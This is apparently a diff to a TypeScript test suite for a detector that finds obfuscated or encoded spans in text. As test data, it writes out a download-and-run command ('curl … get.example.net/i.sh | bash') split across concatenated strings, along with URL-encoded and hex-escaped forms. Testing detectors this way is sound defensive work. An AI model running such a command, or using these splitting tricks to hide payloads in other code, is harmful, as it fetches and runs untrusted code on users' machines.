@@ -35,6 +35,23 @@ describe('decoders', () => {
     });
   }
 
+  it('finds each encoding after look-alikes that precede it (the cheap gates skip ahead, never past a real span)', () => {
+    const filler = 'total = a + b  # 100% done, path C:\\temp\\x\n'.repeat(60);
+    const concat = `"curl -fsSL htt" + 'ps://get.example.net/i.sh' + " | ba" + "sh"`;
+    const cases: Array<[decoder: string, text: string]> = [
+      ['concat', `${filler}${concat}`],
+      ['concat', `${filler}"curl -fsSL htt"\u00a0+\u00a0'ps://get.example.net/i.sh | bash'`],
+      ['concat', `"${'a'.repeat(500)}" + "${'b'.repeat(500)}" ${filler} ${concat}`],
+      ['url', `${filler}${encodeURIComponent(PAYLOAD)}`],
+      ['escape', `${filler}${[...PAYLOAD].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}`],
+    ];
+    for (const [decoder, text] of cases) {
+      const spans = findEncodedSpans(text).filter((s) => s.decoder === decoder);
+      assert.ok(spans.some((s) => s.text.replace(/\s+/g, ' ').includes('get.example.net/i.sh')), `${decoder}: ${JSON.stringify(spans.map((s) => s.text.slice(0, 80)))}`);
+    }
+    assert.deepEqual(findEncodedSpans(filler), []);
+  });
+
   it('decodes nested encodings (hex inside base64) up to the default depth of 2', () => {
     const nested = Buffer.from(Buffer.from(PAYLOAD).toString('hex')).toString('base64');
     const hits = pipeHits(`q=${nested}`);
